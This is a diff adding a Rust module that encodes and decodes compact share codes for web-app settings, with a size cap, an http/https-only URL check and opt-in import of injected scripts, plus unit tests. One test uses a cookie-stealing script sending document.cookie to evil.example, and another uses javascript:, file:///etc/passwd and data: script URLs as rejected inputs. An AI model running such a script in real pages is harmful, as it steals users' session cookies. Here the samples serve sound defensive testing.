@@ -0,0 +1,204 @@
+use base64::engine::general_purpose::URL_SAFE_NO_PAD;
+use base64::Engine;
+use flate2::read::DeflateDecoder;
+use flate2::write::DeflateEncoder;
+use flate2::Compression;
+use serde::{Deserialize, Serialize};
+use std::io::{Read, Write};
+
+use crate::models::{InjectTiming, WebApp};
+
+/// 分享码前缀（包含格式版本）
+const SHARE_PREFIX: &str = "WAH1.";
+
+/// 解压后的最大长度，防止恶意分享码占用大量内存
+const MAX_DECODED_LEN: u64 = 256 * 1024;
+
+/// 分享码中包含的小程序设置（不包含快捷键、代理等与本机相关的设置）
+#[derive(Debug, Clone, Serialize, Deserialize)]
+#[serde(rename_all = "camelCase")]
+struct SharedWebApp {
+    name: String,
+    url: String,
+    /// 只分享远程图标 URL，base64 图标太大
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    icon: Option<String>,
+    width: u32,
+    height: u32,
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    inject_script: Option<String>,
+    #[serde(default)]
+    inject_on_load: bool,
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    inject_timing: Option<InjectTiming>,
+    #[serde(default)]
+    inject_on_shortcut: bool,
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    custom_css: Option<String>,
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    timezone: Option<String>,
+    #[serde(default, skip_serializing_if = "Vec::is_empty")]
+    allowed_domains: Vec<String>,
+}
+
+/// 导入分享码的结果（`dry_run` 时只是预览，没有添加小程序）
+#[derive(Debug, Clone, Serialize)]
+#[serde(rename_all = "camelCase")]
+pub struct ShareImport {
+    /// 是否只是预览
+    pub dry_run: bool,
+    /// 将要添加（或已添加）的小程序
+    pub webapp: WebApp,
+    /// 分享码中的注入脚本，供用户导入前查看
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub inject_script: Option<String>,
+    /// 分享码中的自定义样式
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub custom_css: Option<String>,
+    /// 脚本和样式是否一并导入（默认不导入，需调用方明确选择）
+    pub scripts_included: bool,
+}
+
+fn is_http(url: &str) -> bool {
+    url.parse::<url::Url>()
+        .map(|url| matches!(url.scheme(), "http" | "https"))
+        .unwrap_or(false)
+}
+
+/// 将小程序设置编码为紧凑的分享码
+pub fn encode(webapp: &WebApp) -> Result<String, String> {
+    let shared = SharedWebApp {
+        name: webapp.name.clone(),
+        url: webapp.url.clone(),
+        icon: webapp
+            .icon
+            .clone()
+            .filter(|icon| icon.starts_with("http://") || icon.starts_with("https://")),
+        width: webapp.width,
+        height: webapp.height,
+        inject_script: webapp.inject_script.clone(),
+        inject_on_load: webapp.inject_on_load,
+        inject_timing: webapp.inject_timing,
+        inject_on_shortcut: webapp.inject_on_shortcut,
+        custom_css: webapp.custom_css.clone(),
+        timezone: webapp.timezone.clone(),
+        allowed_domains: webapp.allowed_domains.clone(),
+    };
+
+    let json = serde_json::to_vec(&shared).map_err(|e| e.to_string())?;
+    let mut encoder = DeflateEncoder::new(Vec::new(), Compression::best());
+    encoder.write_all(&json).map_err(|e| e.to_string())?;
+    let compressed = encoder.finish().map_err(|e| e.to_string())?;
+
+    Ok(format!("{}{}", SHARE_PREFIX, URL_SAFE_NO_PAD.encode(compressed)))
+}
+
+/// 解析分享码，生成新的小程序（新 ID，不带快捷键）
+///
+/// 只接受 http/https 网址；分享码中的注入脚本和自定义样式会在对方的登录会话中运行，
+/// 只有 `include_scripts` 为 true 时才导入，否则只在结果中列出
+pub fn decode(code: &str, include_scripts: bool) -> Result<ShareImport, String> {
+    let payload = code
+        .trim()
+        .strip_prefix(SHARE_PREFIX)
+        .ok_or("无效的分享码")?;
+    let compressed = URL_SAFE_NO_PAD
+        .decode(payload)
+        .map_err(|_| "无效的分享码".to_string())?;
+
+    let mut json = Vec::new();
+    DeflateDecoder::new(compressed.as_slice())
+        .take(MAX_DECODED_LEN + 1)
+        .read_to_end(&mut json)
+        .map_err(|_| "无效的分享码".to_string())?;
+    if json.len() as u64 > MAX_DECODED_LEN {
+        return Err("分享码内容过大".to_string());
+    }
+
+    let shared: SharedWebApp =
+        serde_json::from_slice(&json).map_err(|e| format!("分享码内容无效: {}", e))?;
+    shared
+        .url
+        .parse::<url::Url>()
+        .map_err(|e| format!("分享码中的网址无效: {}", e))?;
+    if !is_http(&shared.url) {
+        return Err("分享码中的网址只能是 http 或 https".to_string());
+    }
+
+    let mut webapp = WebApp::new(shared.name, shared.url);
+    webapp.icon = shared.icon.filter(|icon| is_http(icon));
+    webapp.width = shared.width;
+    webapp.height = shared.height;
+    webapp.timezone = shared.timezone;
+    webapp.allowed_domains = shared.allowed_domains;
+    if include_scripts {
+        webapp.inject_script = shared.inject_script.clone();
+        webapp.inject_on_load = shared.inject_on_load;
+        webapp.inject_timing = shared.inject_timing;
+        webapp.inject_on_shortcut = shared.inject_on_shortcut;
+        webapp.custom_css = shared.custom_css.clone();
+    }
+    Ok(ShareImport {
+        dry_run: false,
+        webapp,
+        inject_script: shared.inject_script,
+        custom_css: shared.custom_css,
+        scripts_included: include_scripts,
+    })
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn test_share_code_roundtrip() {
+        let mut webapp = WebApp::new("Notes".to_string(), "https://notes.example.com".to_string());
+        webapp.shortcut = Some("CmdOrCtrl+Shift+N".to_string());
+        webapp.custom_css = Some("body { font-size: 15px; }".to_string());
+        webapp.icon = Some("data:image/png;base64,AAAA".to_string());
+
+        let code = encode(&webapp).unwrap();
+        assert!(code.starts_with(SHARE_PREFIX));
+
+        let imported = decode(&code, true).unwrap().webapp;
+        assert_ne!(imported.id, webapp.id);
+        assert_eq!(imported.name, "Notes");
+        assert_eq!(imported.url, webapp.url);
+        assert_eq!(imported.custom_css, webapp.custom_css);
+        assert_eq!(imported.shortcut, None);
+        assert_eq!(imported.icon, None);
+    }
+
+    #[test]
+    fn test_share_code_scripts_need_opt_in() {
+        let mut webapp = WebApp::new("Notes".to_string(), "https://notes.example.com".to_string());
+        webapp.inject_script = Some("fetch('https://evil.example/?' + document.cookie)".to_string());
+        webapp.inject_on_load = true;
+        webapp.custom_css = Some("body { color: red; }".to_string());
+
+        let import = decode(&encode(&webapp).unwrap(), false).unwrap();
+        assert!(!import.scripts_included);
+        assert_eq!(import.webapp.inject_script, None);
+        assert!(!import.webapp.inject_on_load);
+        assert_eq!(import.webapp.custom_css, None);
+        // 预览中仍然列出脚本，供用户决定是否导入
+        assert_eq!(import.inject_script, webapp.inject_script);
+        assert_eq!(import.custom_css, webapp.custom_css);
+    }
+
+    #[test]
+    fn test_share_code_rejects_non_http_urls() {
+        for url in ["javascript:alert(1)", "file:///etc/passwd", "data:text/html,<script></script>"] {
+            let webapp = WebApp::new("Bad".to_string(), url.to_string());
+            assert!(decode(&encode(&webapp).unwrap(), false).is_err(), "{}", url);
+        }
+    }
+
+    #[test]
+    fn test_invalid_share_codes() {
+        assert!(decode("", false).is_err());
+        assert!(decode("WAH1.!!!", false).is_err());
+        assert!(decode("https://example.com", false).is_err());
+    }
+}